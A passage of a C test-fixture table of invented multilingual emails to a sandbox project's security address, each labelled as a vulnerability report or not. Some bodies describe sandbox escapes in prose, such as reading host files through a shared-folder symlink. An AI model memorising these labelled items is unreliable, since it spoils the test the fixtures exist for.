	  "\u00bfEs esto lo esperado?\n\nGracias,\nRui\n", FALSE, 1 },
	{ "Question sur votre sandbox \u00e0 l'\u00e9cole",
	  "Bonjour,\n\nJ'anime un club de robotique pour des adolescents, et un coll\u00e8gue m'a dit que "
	  "microsandbox permet d'ex\u00e9cuter des programmes sans toucher \u00e0 l'ordinateur h\u00f4te. "
	  "Est-ce adapt\u00e9 \u00e0 des \u00e9l\u00e8ves de cet \u00e2ge ?\n\nCordialement,\nMara\n", FALSE, -1 },
	/* said with the German verb last (1622) and in Norwegian, Swedish
	 * and Danish (1630); a German report that only holds back publishing
	 * and a Danish aside about another platform stay reports */
	{ "Frage zur Lizenz",
	  "Hallo,\n\neine Schwachstelle will ich hiermit nicht melden. Darf man microsandbox in "
	  "einem kommerziellen Kurs einsetzen?\n\nGruß\nTobias\n", TRUE, 0 },
	{ "Gast liest Host-Dateien",
	  "Hallo,\n\nmit msb 0.10.2 kann der Gast \u00fcber einen Symlink im Freigabeordner die "
	  "Datei /etc/shadow des Hosts lesen. Die L\u00fccke m\u00f6chte ich noch nicht "
	  "\u00f6ffentlich melden, bevor es einen Fix gibt.\n\nGru\u00df\nTobias\n", FALSE, 1 },
	{ "Sp\u00f8rsm\u00e5l om st\u00f8ttetid",
	  "Hei,\n\ndette er ikke en sikkerhetsrapport. Hvor lenge f\u00e5r 0.9.x "
	  "sikkerhetsrettelser?\n\nHilsen\nKnut\n", TRUE, 0 },
	{ "Fr\u00e5ga om namnrymder",
	  "Hej,\n\ndetta \u00e4r inte en s\u00e5rbarhetsrapport, vi har inget att rapportera. "
	  "\u00c4r namnrymder i msb server t\u00e4nkta som en gr\u00e4ns mellan kunder?\n\n"
	  "Mvh\nAnna\n", TRUE, 0 },
	{ "G\u00e6st kan l\u00e6se v\u00e6rtens filer",
	  "Hej,\n\nmed msb 0.10.2 p\u00e5 Linux kan g\u00e6sten l\u00e6se /etc/shadow p\u00e5 "
	  "v\u00e6rten via et symlink i den delte mappe. Intet at rapportere om macOS, der "
	  "virker det.\n\nHilsen\nMads\n", FALSE, -1 },
	/* a job application to the security address, in any language
	 * ([nonreport.application], 1622); a report that also mentions the
	 * writer's CV, or asks to apply for a CVE, stays a report */
	{ "Bewerbung als Praktikant Cloud-Sicherheit",
	  "Guten Tag,\n\nhiermit bewerbe ich mich um ein Praktikum in Ihrem Sicherheitsteam. Ich "
	  "kenne Rust, KVM und Linux-Namespaces. Meinen Lebenslauf und meine Zeugnisse finden Sie "
	  "anbei.\n\nViele Gr\u00fc\u00dfe\nJonas Brandt\n", TRUE, 0 },
	{ "Internship in sandbox security",
	  "Dear team,\n\nI would like to apply for a remote internship position in security "
	  "engineering. I have two years of Rust and some KVM experience from university "
	  "projects. My CV is attached.\n\nKind regards,\nPriya\n", TRUE, 0 },
	{ "Candidature spontan\u00e9e - stage s\u00e9curit\u00e9",
	  "Bonjour,\n\nje vous adresse ma candidature spontan\u00e9e pour un stage de six mois en "
	  "s\u00e9curit\u00e9 des syst\u00e8mes. Mon CV est ci-joint.\n\nCordialement,\nLouis\n", TRUE, 0 },
	{ "Guest can read the host's shadow file via the shared folder",
	  "Hi,\n\nI ran msb 0.10.2 with a shared folder and the guest read the host's /etc/shadow "
	  "through a symlink it placed there. I would like to apply for a CVE for this. PS: I am "
	  "also looking for an internship position, my CV is attached.\n\nRegards,\nIda\n", FALSE, 1 },
	/* the writer says it reports nothing ([nonreport.none]): that settles
	 * it over what they tried, in any language, in a reply to our ack */
	/* the writer says they have found no vulnerability at all, yet
	 * ([nonreport.unfound], 1729), in any language and with any
	 * apostrophe: the escapes they name are what someone will try */
	{ "Amaliy mashg'ulotlar uchun ruxsat",
	  "Salom!\n\nKursimizda talabalar o'z sandbox'laridan chiqishga (sandbox escape) va tarmoq filtrini chetlab o'tishga harakat qiladi. Hozircha zaifliklarni aniqlaganimiz yo`q. Bu mashqlarni cloud'da bajarish mumkinmi?\n\nRahmat,\nNodira\n", TRUE, 0 },
	{ "\u0422\u0430\u043b\u0430\u0431\u0430\u043b\u0430\u0440 \u0443\u0447\u0443\u043d \u043c\u0430\u0448\u0493\u0443\u043b\u043e\u0442",
	  "\u0410\u0441\u0441\u0430\u043b\u043e\u043c\u0443 \u0430\u043b\u0430\u0439\u043a\u0443\u043c!\n\n\u041a\u0435\u043b\u0430\u0441\u0438 \u043e\u0439\u0434\u0430 \u0442\u0430\u043b\u0430\u0431\u0430\u043b\u0430\u0440 sandbox escape \u043c\u0430\u0448\u049b\u0438\u043d\u0438 \u0431\u0430\u0436\u0430\u0440\u0430\u0434\u0438. \u04b2\u043e\u0437\u0438\u0440\u0447\u0430 \u04b3\u0435\u0447 \u049b\u0430\u043d\u0434\u0430\u0439 \u0437\u0430\u0438\u0444\u043b\u0438\u043a \u0442\u043e\u043f\u043c\u0430\u0434\u0438\u043a. \u0411\u0443\u043d\u0433\u0430 \u0440\u0443\u0445\u0441\u0430\u0442 \u0431\u043e\u0440\u043c\u0438?\n", TRUE, 0 },
	{ "\u0421\u0442\u0443\u0434\u0435\u043d\u0442\u0442\u0435\u0440\u0433\u0435 \u0430\u0440\u043d\u0430\u043b\u0493\u0430\u043d \u0436\u0430\u0440\u044b\u0441",
	  "\u0421\u04d9\u043b\u0435\u043c\u0435\u0442\u0441\u0456\u0437 \u0431\u0435!\n\n\u0421\u0442\u0443\u0434\u0435\u043d\u0442\u0442\u0435\u0440 \u04e9\u0437 \u049b\u04b1\u043c\u0441\u0430\u043b\u0493\u044b\u0448\u0442\u0430\u0440\u044b\u043d\u0430\u043d \u0448\u044b\u0493\u0443\u0493\u0430 (sandbox escape) \u0442\u044b\u0440\u044b\u0441\u0430\u0434\u044b. \u0411\u0456\u0437 \u04d9\u0437\u0456\u0440\u0433\u0435 \u0435\u0448\u049b\u0430\u043d\u0434\u0430\u0439 \u043e\u0441\u0430\u043b\u0434\u044b\u049b \u0442\u0430\u043f\u049b\u0430\u043d \u0436\u043e\u049b\u043f\u044b\u0437. \u0411\u04b1\u043b\u0442\u0442\u0430 \u0441\u044b\u043d\u0430\u0443\u0493\u0430 \u0440\u04b1\u049b\u0441\u0430\u0442 \u043f\u0430?\n", TRUE, 0 },
	{ "\u00d6\u011frenci yar\u0131\u015fmas\u0131 hakk\u0131nda",
	  "Merhaba,\n\n\u00d6\u011frencilerimiz a\u011f k\u0131s\u0131tlamalar\u0131n\u0131 a\u015fmay\u0131 ve sandbox escape denemeyi planl\u0131yor. Hen\u00fcz herhangi bir g\u00fcvenlik a\u00e7\u0131\u011f\u0131 bulamad\u0131k; bulursak CVE'yi kim talep eder?\n\nSayg\u0131lar\u0131mla,\nEmre\n", TRUE, 0 },
	{ "T\u0259l\u0259b\u0259 yar\u0131\u015f\u0131",
	  "Salam,\n\nT\u0259l\u0259b\u0259l\u0259r \u00f6z sandbox-lar\u0131ndan \u00e7\u0131xma\u011fa (sandbox escape) \u00e7al\u0131\u015facaqlar. H\u0259l\u0259 he\u00e7 bir z\u0259iflik tapmam\u0131\u015f\u0131q. Buluddak\u0131 pulsuz tarifd\u0259 buna icaz\u0259 varm\u0131?\n", TRUE, 0 },
	{ "Hackathon op jullie cloud",
	  "Hallo,\n\nTijdens onze hackathon proberen teams een sandbox escape. We hebben nog geen enkele kwetsbaarheid gevonden. Mag dat op de gratis laag?\n", TRUE, 0 },
	{ "Projet \u00e9tudiant",
	  "Bonjour,\n\nNos \u00e9tudiants tenteront un contournement du r\u00e9seau et une sandbox escape. Nous n\u2019avons pas encore trouv\u00e9 de vuln\u00e9rabilit\u00e9. Est-ce autoris\u00e9 sur l'offre gratuite ?\n", TRUE, 0 },
	{ "Red team exercise on the free tier",
	  "Hello,\n\nNext month our red team will attempt a sandbox escape and a network policy bypass against our own account. To be clear, we haven't found any vulnerability yet. Is this allowed on the free tier, and who should request a CVE if we do find one?\n\nThanks,\nIgor\n", TRUE, 0 },
	/* a report that says it found no other vulnerability, or no fix, is one;
	 * so is a report in Uzbek or Turkish that tells the escape it found */
	{ "Shared folder symlink lets the guest read host files",
	  "Hi,\n\nWhen I mount a shared folder and create a symlink to /etc inside the guest, I can read the host's /etc/shadow from the sandbox. Any tenant on a shared host can read the host's secrets this way. We have not found any other vulnerability.\n", FALSE, 1 },
	{ "Snapshot restore keeps the previous tenant's env",
	  "Hello,\n\nWhen I restore a snapshot made by another user, the guest still sees that user's environment variables, including their API keys. We have not found a fix or a workaround yet.\n", FALSE, 1 },
	{ "Umumiy papka orqali host fayllari",
	  "Salom,\n\nGuest ichida umumiy papkaga symlink yaratib, hostdagi /etc/shadow faylini o'qidim: sandbox'dan chiqish (sandbox escape) ishlaydi. Boshqa zaiflik topmadik.\n", FALSE, -1 },
	{ "Payla\u015f\u0131lan klas\u00f6rden host dosyalar\u0131",
	  "Merhaba,\n\nPayla\u015f\u0131lan klas\u00f6rde sembolik ba\u011flant\u0131 olu\u015fturarak sandbox'tan ka\u00e7t\u0131m ve host \u00fczerindeki /etc/shadow dosyas\u0131n\u0131 okudum. Ba\u015fka bir a\u00e7\u0131k bulamad\u0131k.\n", FALSE, -1 },
	/* a mail client's recall notice for a report sent before, in
	 * Outlook's languages ([nonreport.recall], 1594): the quoted subject
	 * is the recalled report's.  A writer who says in their own words
	 * that they want to recall a message and then reports is no notice */
	{ "Recall: Guest can rewrite the host's vsock socket permissions",
	  "Priya Raman would like to recall the message, \"Guest can rewrite the host's vsock "
	  "socket permissions\".\n", TRUE, 0 },
	{ "R\u00fcckruf: Gast liest Host-Dateien \u00fcber den Freigabeordner",
	  "Jonas Weber m\u00f6chte die Nachricht \"Gast liest Host-Dateien \u00fcber den "
	  "Freigabeordner\" zur\u00fcckrufen.\n", TRUE, 0 },
	{ "Rappel : \u00e9vasion du bac \u00e0 sable via le dossier partag\u00e9",
	  "Claire Dubois souhaite rappeler le message \u00ab \u00c9vasion du bac \u00e0 sable via le "
	  "dossier partag\u00e9 \u00bb.\n", TRUE, 0 },
	{ "Recuperar: fuga de credenciales en los registros de msbd",
	  "Luc\u00eda Torres desea recuperar el mensaje \"Fuga de credenciales en los registros "
	  "de msbd\".\n", TRUE, 0 },
	{ "Guest escapes through the shared folder (corrected)",
	  "Hi,\n\nI would like to recall the message I sent an hour ago, it had the wrong version. "
	  "I ran msb 0.9.4 with a shared folder and the guest could read the host's /etc/shadow "
	  "through a symlink it placed there.\n\nRegards,\nIda\n", FALSE, 1 },
	/* written "not to report a vulnerability", in any language (1334);
	 * "not only to report" still reports */
	{ "Articolo sulle sandbox microVM",
	  "Salve,\n\nvi scrivo non per segnalare una vulnerabilit\u00e0, ma per avvisarvi che a "
	  "ottobre pubblicheremo un articolo che mette a confronto microsandbox e altre sandbox. "
	  "Vi andrebbe di rileggere il paragrafo che vi riguarda?\n\nCiao,\nGiulia\n", TRUE, 0 },
	{ "Heads-up: workshop paper",
	  "Hi all,\n\nJust a heads-up from our group, not to report a bug: our workshop paper "
	  "compares start-up times of several microVM sandboxes, yours among them. Would you like "
	  "to see the draft before the camera-ready deadline?\n\nBest,\nTheo\n", TRUE, 0 },
	{ "Guest reads host files through the shared folder",
	  "Hi,\n\nI am writing not only to report a vulnerability but also to offer a fix later. "
	  "I ran msb 0.9.4 with a shared folder and the guest can read the host's /etc/shadow "
	  "through a symlink placed in the folder.\n\nRegards,\nIda\n", FALSE, 1 },
	/* an intermediary announcing a report to come: our own policy read
	 * ("I saw that your policy ...") is no observation (1347); a sentence
	 * that tells what the writer saw still is */
	{ "A hunter wants to reach you (case 5521)",
	  "Hello,\n\nI handle researcher support at a disclosure platform. One of our hunters says "
	  "he has a guest-to-host escape in msb but has not shared any details with us. I saw that "
	  "your policy lists this address; is it the right place for him to write, or do you "
	  "prefer GitHub advisories?\n\nThanks,\nPetra\n", TRUE, 0 },
	{ "Shared folder symlink reaches host files",
	  "Hello,\n\nI saw that the guest can follow a symlink in a shared folder and read "
	  "the host's ~/.ssh/id_ed25519 with msb 0.9.4. Is this expected?\n\nPetra\n", FALSE, 1 },
	{ "Draft article on microVM isolation",
	  "Hello,\n\nI am finishing an article for our engineering blog about how microsandbox keeps "
	  "guests apart from the host. We tested msb 0.9.1 against a handful of well-known breakout "
	  "tricks and none of them got anywhere, so honestly there's nothing to report. Before it goes "
	  "out, would you mind glancing at the paragraphs about the virtio layer? Feedback of any kind "
	  "is appreciated.\n\nCheers,\nOwen\n", TRUE, 0 },
	{ "AW: [SEC-2026-0099] Ihr Bericht",
	  "Hallo,\n\nich verstehe diese Nachricht nicht. Ich habe Ihnen nie eine Meldung geschrieben "
	  "und kenne Ihr Produkt nicht. Bitte entfernen Sie meine Adresse aus Ihrer Liste.\n\n"
	  "Gru\u00df\nJens\n", TRUE, 0 },
	{ "Re: [SEC-2026-0123] Accus\u00e9 de r\u00e9ception",
	  "Bonjour,\n\nJe ne vous ai jamais \u00e9crit : quelqu'un a usurp\u00e9 mon adresse. Merci "
	  "de supprimer mes donn\u00e9es.\n\nMarc\n", TRUE, 0 },
	{ "Consulta para mi tesis",
	  "Hola:\n\nEstoy escribiendo mi tesis sobre aislamiento de m\u00e1quinas virtuales ligeras y "
	  "prob\u00e9 microsandbox 0.9.2 con varias t\u00e9cnicas conocidas de escape. No encontr\u00e9 nada "
	  "que reportar; solo quer\u00eda saber si puedo citar su documentaci\u00f3n.\n\nSaludos,\nIn\u00e9s\n",
	  TRUE, 0 },
	{ "Revisione di una relazione",
	  "Buongiorno,\n\nsto preparando una relazione universitaria sull'isolamento di microsandbox. "
	  "Non ho niente da segnalare, ma vi sarei grata per qualche commento sul testo allegato.\n\n"
	  "Grazie,\nChiara\n", TRUE, 0 },
	{ "Pedido de SBOM",
	  "Ol\u00e1,\n\nA nossa equipa est\u00e1 a avaliar o microsandbox para uso interno. N\u00e3o temos "
	  "nada a relatar; gostar\u00edamos apenas de receber a lista de componentes da vers\u00e3o 0.9.2.\n\n"
	  "Obrigado,\nRui\n", TRUE, 0 },
	{ "Vraag over jullie beveiligingsbeleid",
	  "Hallo,\n\nWe gebruiken microsandbox in een pilot. Er is niets te melden, maar onze auditor "
	  "vraagt om jullie SBOM en de sleutel waarmee jullie releases ondertekenen.\n\nGroet,\nDaan\n",
	  TRUE, 0 },
	{ "Pytanie o cytowanie dokumentacji",
	  "Dzie\u0144 dobry,\n\npisz\u0119 prac\u0119 in\u017cyniersk\u0105 o izolacji maszyn wirtualnych. "
	  "Nie mam nic do zg\u0142oszenia, chcia\u0142bym tylko zapyta\u0107 o zgod\u0119 na cytowanie "
	  "dokumentacji.\n\nPozdrawiam,\nPiotr\n", TRUE, 0 },
	{ "\u5352\u696d\u8ad6\u6587\u306b\u3064\u3044\u3066\u306e\u304a\u9858\u3044",
	  "\u306f\u3058\u3081\u307e\u3057\u3066\u3002\n\n\u5927\u5b66\u3067microsandbox\u306e\u9694\u96e2"
	  "\u6027\u80fd\u3092\u8a55\u4fa1\u3057\u307e\u3057\u305f\u3002\u7279\u306b\u5831\u544a\u3059"
	  "\u308b\u3053\u3068\u306f\u3042\u308a\u307e\u305b\u3093\u3002\u8ad6\u6587\u306e\u8a72\u5f53"
	  "\u7ae0\u306b\u3064\u3044\u3066\u3054\u610f\u898b\u3092\u3044\u305f\u3060\u3051\u308c\u3070"
	  "\u5e78\u3044\u3067\u3059\u3002\n\n\u7530\u4e2d\n", TRUE, 0 },
	{ "\u5173\u4e8e\u4f9b\u5e94\u5546\u5ba1\u67e5",
	  "\u60a8\u597d\uff0c\n\n\u6211\u4eec\u516c\u53f8\u6b63\u5728\u5bf9 microsandbox \u8fdb\u884c"
	  "\u4f9b\u5e94\u5546\u5b89\u5168\u5ba1\u67e5\u3002\u6211\u4eec\u6ca1\u6709\u4ec0\u4e48\u9700"
	  "\u8981\u62a5\u544a\u7684\u6f0f\u6d1e\uff0c\u53ea\u662f\u60f3\u7d22\u53d6 0.9.2 \u7248\u672c"
	  "\u7684 SBOM\u3002\n\n\u8c22\u8c22\n", TRUE, 0 },
	/* said in a fragment at the head of a sentence or beside the question
	 * it is instead, with the output the question is about (1419); the
	 * Croatian "nemam ništa za prijaviti" (1372) */
	{ "Signed checksums for the 0.10 tarballs?",
	  "Hi,\n\nNot a security report, just a packaging question from a Gentoo overlay maintainer.\n\n"
	  "Our mirror job logs this every night:\n\n"
	  "2026-11-30T02:00:01Z mirror[811]: fetched msb-0.10.2-x86_64.tar.gz (41.2 MiB)\n"
	  "2026-11-30T02:00:02Z mirror[811]: no detached signature found, skipping verification\n\n"
	  "The checksum file itself is not signed. Is a signed SHA256SUMS planned for 0.11?\n\nThanks,\nKai\n",
	  TRUE, 0 },
	{ "Vraag over jullie releaseproces",
	  "Goedemiddag,\n\nGeen beveiligingsmelding, maar een procesvraag: publiceren jullie CVE's ook "
	  "als OSV-feed? Onze scanner leest alleen die bron.\n\nGroet,\nSanne\n", TRUE, 0 },
	{ "Kurze Frage zu Ihren Advisories",
	  "Guten Tag,\n\nkeine Schwachstellenmeldung, sondern eine Frage: gibt es eine Mailingliste "
	  "f\u00fcr Sicherheitshinweise zu msb?\n\nViele Gr\u00fc\u00dfe\nLena\n", TRUE, 0 },
	{ "Une question sur vos versions LTS",
	  "Bonjour,\n\nPas un signalement de vuln\u00e9rabilit\u00e9, juste une question : combien de "
	  "temps la branche 0.9 re\u00e7oit-elle des correctifs de s\u00e9curit\u00e9 ?\n\nMerci,\nAnne\n",
	  TRUE, 0 },
	{ "Pitanje o potpisima paketa",
	  "Pozdrav,\n\nodr\u017eavam pakete za openSUSE. Nemamo ni\u0161ta za prijaviti, samo nas zanima "
	  "postoji li lista za sigurnosne obavijesti?\n\nHvala,\nMarko\n", TRUE, 0 },
	/* ... not hedged, not another kind of report, nor "not sure" with a
	 * finding after it: those stay reports */
	{ "CLI token file could use the keyring",
	  "Hello,\n\nNot a vulnerability report exactly, more of a request. I noticed that msb 0.10.1 writes the cloud "
	  "token to ~/.config/msb/token in plain text; anything that runs as me can read it and use "
	  "the token against every sandbox of our org. Could it use the system keyring?\n\nJo\n", FALSE, 1 },
	{ "Guest reads host files through the shared folder (not a duplicate)",
	  "Hello,\n\nThis is not a duplicate report, the symlink fix in 0.10.2 missed a case. With msb "
	  "0.10.2 the guest can still read the host's ~/.ssh/id_ed25519 through a symlink in the shared "
	  "folder.\n\nRegards,\nTom\n", FALSE, 1 },
	{ "Snapshot restore leaks another user's env",
	  "Hi,\n\nI'm not sure this is a vulnerability, but when I restore a snapshot taken by another "
	  "user with msb 0.10.0, I can read their environment secrets in /proc/1/environ.\n\nAli\n",
	  FALSE, 1 },
	{ "Nemam dokaz, ali guest \u010dita datoteke hosta",
	  "Pozdrav,\n\nnemam ni\u0161ta za prijaviti na macOS-u, ali na Linuxu s msb 0.10.2 guest "
	  "\u010dita datoteke hosta kroz simboli\u010dku vezu u dijeljenoj mapi. I ran it twice.\n\nIvo\n",
	  FALSE, -1 },
	/* a request to review the writer's own text, a supplier questionnaire */
	{ "Feedback on my conference slides",
	  "Hi all,\n\nI am giving a short talk on sandboxing AI agents next month, and one section "
	  "explains microsandbox's design as I understand it from the docs. Could one of you look over "
	  "the attached slides. Any corrections would be appreciated.\n\nThanks,\nNoor\n", TRUE, 0 },
	{ "Supplier security assessment",
	  "Good morning,\n\nOur procurement team is adding microsandbox to the approved tools list, "
	  "and for our supplier risk assessment we would like a short description of how release "
	  "artifacts are signed and the name of a security contact. Please fill in the attached "
	  "questionnaire, or send us your SBOM if that is easier.\n\nRegards,\nPriya\n", TRUE, 0 },
	/* reports that stay reports: one that doubts itself and asks, a
	 * student's, a vendor reviewer's, one with a fix for review, one
	 * with nothing to report on another platform */
	{ "Snapshot directory readable by other users",
	  "Hello,\n\nI noticed that msb 0.9.2 creates /var/lib/msb/snapshots with mode 0755, so any local "
	  "user on the host can list and copy another user's snapshot files, including the environment "
	  "secrets stored inside. Not sure this is a vulnerability or intended, could you let me know?"
	  "\n\nThanks,\nAda\n", FALSE, 1 },
	{ "Student project: guest reaches the metadata service",
	  "Hi,\n\nI'm a second-year student and for a class project I ran msb 0.9.1 on Ubuntu 24.04. "
	  "From inside the sandbox I was able to reach 169.254.169.254 even with networking off, which "
	  "hands out the cloud credentials of the host VM. I don't have anything to report beyond this "
	  "one finding; my teacher asked me to send it.\n\nBest,\nSam\n", FALSE, 1 },
	{ "Vendor review finding: upload token in CI logs",
	  "Hello,\n\nDuring our third-party risk review of microsandbox we found that the public CI logs "
	  "of the 0.9.2 release print the PyPI upload token in clear text. Anyone who reads the logs can "
	  "publish packages under your name. For our vendor file we need to know when this will be "
	  "fixed.\n\nRegards,\nHelga\n", FALSE, 1 },
	{ "msb cp follows guest symlinks",
	  "Hello,\n\n`msb cp` follows a symlink placed by the guest in the target directory, so a guest "
	  "overwrites any file the host user can write. Could you review my patch below? It opens the "
	  "target with O_NOFOLLOW. Any feedback is welcome.\n\nLin\n", FALSE, 1 },
	{ "Guest writes outside the shared folder on Linux",
	  "Hello,\n\nOn Linux hosts msb 0.9.2 resolves a symlink the guest places in the shared folder "
	  "on the host side, so the guest writes to the host user's .bashrc. On a Mac there is nothing "
	  "to report for macOS, the shared folder is read through another path.\n\nYuki\n", FALSE, 1 },
	/* (#3) a question whether what the writer saw is a bug or just how it
	 * works, or a request for their own account back, reports nothing in
	 * any language, the commands shown too (1203, 1250, 1238) ... */
	{ "Stopped sandboxes still listed",
	  "Hi,\n\nI use msb for a hobby project. After a reboot, this still lists three sandboxes "
	  "I stopped yesterday:\n\n    msb ls\n\nI started a new one with\n\n"
	  "    msb run -it alpine sh\n\nand the old ones stay there. Is this a bug, or is it normal "
	  "and I should remove them myself?\n\n"
	  "Thanks,\nKai\n", TRUE, 0 },
	{ "\u00bfEs un error?",
	  "Hola:\n\nCuando ejecuto `msb run python:3.12` la primera vez tarda casi un minuto, y las "
	  "siguientes veces solo unos segundos. Mi compa\u00f1ero dice que es un fallo de la cach\u00e9. "
	  "\u00bfEs un bug o es normal?\n\nGracias,\nLuc\u00eda\n", TRUE, 0 },
	{ "Frage zu msb",
	  "Hallo,\n\nin der Sandbox zeigt `df -h` nur 8 GB Speicher, obwohl mein Laptop viel mehr frei "
	  "hat. Ist das ein Fehler oder so gewollt?\n\nViele Gr\u00fc\u00dfe\nJonas\n", TRUE, 0 },
	{ "\u8cea\u554f\u3067\u3059",
	  "\u3053\u3093\u306b\u3061\u306f\u3002\n\nmsb stop \u306e\u5f8c\u3082\u30ed\u30b0"
	  "\u30d5\u30a1\u30a4\u30eb\u304c\u6b8b\u3063\u3066\u3044\u307e\u3059\u3002\u3053\u308c"
	  "\u306f\u30d0\u30b0\u3067\u3059\u304b\u3001\u305d\u308c\u3068\u3082\u4ed5\u69d8"
	  "\u3067\u3059\u304b\uff1f\n\n\u5c71\u672c\n", TRUE, 0 },
	{ "Locked out of the cloud console",
	  "Hello,\n\nMy laptop and phone were stolen at a conference, and the authenticator app was on "
	  "the phone. I am the only owner of our organisation in the microsandbox cloud. Can you reset "
	  "the two-factor authentication on my account? I can prove who I am with our invoices.\n\n"
	  "Regards,\nFemi\n", TRUE, 0 },
	{ "Compte bloqu\u00e9",
	  "Bonjour,\n\nJ'ai chang\u00e9 de t\u00e9l\u00e9phone et je ne peux plus me connecter \u00e0 "
	  "mon compte sur la console cloud. Pourriez-vous r\u00e9initialiser la double authentification ? "
	  "\n\nMerci,\nClaire\n", TRUE, 0 },
	/* (1682) the same request told as what the writer cannot do or has
	 * lost, in Afrikaans, Dutch, German and English; a stolen phone is the
	 * reason, not a finding */
	{ "Rekening gesluit na nuwe foon",
	  "Middag,\n\nOns kan nie meer by ons span-rekening op die cloud-konsole aanmeld nie, want die "
	  "foon met die magtigingsapp is in die see geval. Kan julle asseblief die 2FA vir ons "
	  "terugstel? Ek stuur graag die laaste faktuur as bewys.\n\nDankie\nAnnelie\n", TRUE, 0 },
	{ "Kan niet meer inloggen",
	  "Goedemiddag,\n\nMijn telefoon is gestolen en sindsdien kan ik niet meer inloggen op mijn "
	  "cloud account, de codes stonden in de authenticator-app. Kunnen jullie de "
	  "tweestapsverificatie uitschakelen zodat ik er weer in kan?\n\nGroet,\nDaan\n", TRUE, 0 },
	{ "Zugang verloren",
	  "Hallo,\n\nnach einem Handywechsel kann ich mich nicht mehr in meinem Cloud-Konto anmelden, "
	  "die Wiederherstellungscodes habe ich leider nicht aufgehoben. K\u00f6nnen Sie mir helfen, "
	  "den Zugang zu meinem Konto wiederherzustellen?\n\nGr\u00fc\u00dfe\nMarlene\n", TRUE, 0 },
	{ "Can't get in after phone upgrade",
	  "Hi there,\n\nI traded in my old phone last week and forgot to move the authenticator, so now "
	  "I cannot sign in to my cloud account. I also lost my recovery codes when I cleaned up my "
	  "desktop. What do you need from me to prove it's my account?\n\nCheers,\nRowan\n", TRUE, 0 },
	/* ... while a report stays one: one that ends with "is this a bug?",
	 * one that asks about the fix and its date, one that asks whether it
	 * is expected but shows a boundary crossed, one that resets another
	 * user's 2FA */
	{ "Network none still resolves names",
	  "Hello,\n\nWhen I start a sandbox with --network none, code inside can still resolve "
	  "names and send data out through the DNS forwarder, so an untrusted script can exfiltrate "
	  "files it reads. Is this a bug?\n\nOla\n", FALSE, 1 },
	{ "Snapshots readable by every local user",
	  "Hi,\n\nI noticed that snapshots are written with mode 0644, so any local user can copy "
	  "another user's snapshot, secrets included. When do you plan to ship a fix, and is there a "
	  "workaround until then?\n\nTeo\n", FALSE, 1 },
	{ "Guest reads the host's ssh keys",
	  "Hello,\n\nI tested a shared folder mounted read-only: a process in the guest can still read the "
	  "host's ~/.ssh keys through a symlink it creates. Is this a bug or expected behaviour?\n\n"
	  "Mina\n", FALSE, 1 },
	/* what was shared read-only changed from inside anyway, asked about as
	 * bug or expected: a boundary crossed (1316); a write that is refused
	 * is the read-only share working */
	{ "ro share question",
	  "hello,\n\nwe tested the build cache we share into each sandbox with the read-only flag: "
	  "writes fail as they should, but a job inside can still rename and remove entries in the read-only share, "
	  "and then they are missing for every other job on the host. is this a bug or expected?\n\n"
	  "tomas\n", FALSE, 1 },
	{ "Carpeta de solo lectura",
	  "Hola,\n\nmont\u00e9 una carpeta de solo lectura en la sandbox y desde dentro se pueden "
	  "borrar sus ficheros, que desaparecen tambi\u00e9n en mi port\u00e1til. Me parece un fallo: "
	  "un proceso de la sandbox puede eliminar archivos del host. \u00bfEs un bug o es "
	  "normal?\n\nIn\u00e9s\n", FALSE, 1 },
	{ "read-only volume question",
	  "hi,\n\ni mounted a folder into the sandbox as read only and tried to delete a file in it "
	  "from inside. i get \"read-only file system\" and the file stays. is this a bug or expected "
	  "that i can't even remove my own test file?\n\nkim\n", TRUE, 0 },
	{ "Roommate reaches my sandbox",
	  "hi, not sure if this is a bug or just how it works\n\nmy roommate and i each have an "
	  "account on the same linux box. i ran a small api in a sandbox and he could call it from "
	  "his own sandbox by its name and got my test data back. so anyone sharing a machine could "
	  "do the same\n\nthanks\n", FALSE, 1 },
	{ "\u00c9 um bug?",
	  "Ol\u00e1,\n\nQuando monto uma pasta partilhada, um processo dentro da sandbox consegue ler "
	  "os ficheiros do host fora da pasta, sem nenhuma verifica\u00e7\u00e3o do caminho. Isso \u00e9 "
	  "um bug ou \u00e9 normal?\n\nNuno\n", FALSE, 1 },
	{ "2FA reset without any check",
	  "Hello,\n\nI was able to reset the 2FA of another user's account through the support form "
	  "without any verification: it asked only for her e-mail address (she is a colleague and "
	  "agreed). Anyone can take over an account that way.\n\nAbe\n", FALSE, 1 },
	/* (1682) a report that mentions a lost phone or 2FA stays one: the
	 * recovery flow itself lets anyone past, told in Afrikaans and
	 * English */
	{ "Recovery flow skips 2FA",
	  "Hello,\n\nAfter I lost my 2FA device I used the account recovery page, and it let me in "
	  "without any verification beyond my e-mail address. I then tried it on a colleague's account "
	  "(with her consent): anyone who knows an address can take over an account.\n\nJo\n", FALSE, 1 },
	/* (1264) a buyer's compliance or procurement questions before using
	 * the cloud, in any language, report nothing; a report that names a
	 * certification, or that was found while answering a questionnaire,
	 * stays a report */
	{ "Demande d'informations avant achat",
	  "Bonjour,\n\nNotre h\u00f4pital envisage d'utiliser microsandbox cloud pour des traitements "
	  "internes. Pourriez-vous remplir notre questionnaire fournisseur (onglet s\u00e9curit\u00e9) et nous "
	  "dire si vous disposez d\u00e9j\u00e0 de la certification HDS ?\n\nCordialement,\nLuc\n", TRUE, 0 },
	{ "Sicherheitsfragen vor der Beauftragung",
	  "Guten Tag,\n\nvor einer Beauftragung m\u00fcssen wir unseren Lieferanten-Sicherheitsfragebogen "
	  "ausf\u00fcllen lassen. Verf\u00fcgen Sie \u00fcber ein C5-Testat oder ISO 27001 f\u00fcr die Cloud? "
	  "Wo werden die Sandboxen betrieben?\n\nMit freundlichen Gr\u00fc\u00dfen\nJonas\n", TRUE, 0 },
	{ "Consulta de seguridad para proveedores",
	  "Hola:\n\nAntes de contratar el servicio cloud, \u00bfpodr\u00edan rellenar nuestro cuestionario de "
	  "seguridad para proveedores? Tambi\u00e9n quer\u00edamos saber si disponen de certificaci\u00f3n ENS "
	  "y d\u00f3nde se alojan los datos.\n\nUn saludo,\nMarta\n", TRUE, 0 },
	{ "Vendor onboarding: security documents",
	  "Hi team,\n\nWe are onboarding microsandbox cloud as a vendor. Do you have SOC 2 Type II, and "
	  "could you fill out our attached vendor risk questionnaire by the end of the month?\n\n"
	  "Thanks,\nPriya\n", TRUE, 0 },
	{ "ISO 27001 or not, the guest reads host files",
	  "Hello,\n\nWe chose your cloud because it is ISO 27001 certified, but I ran msb 0.10.2 "
	  "today and a process in a sandbox can read the host's files under /var/lib/msb through the shared "
	  "volume mount, including other customers' config.\n\nDo you have SOC 2 as well?\n\nKen\n", FALSE, 1 },
	{ "Trouv\u00e9 en remplissant notre questionnaire",
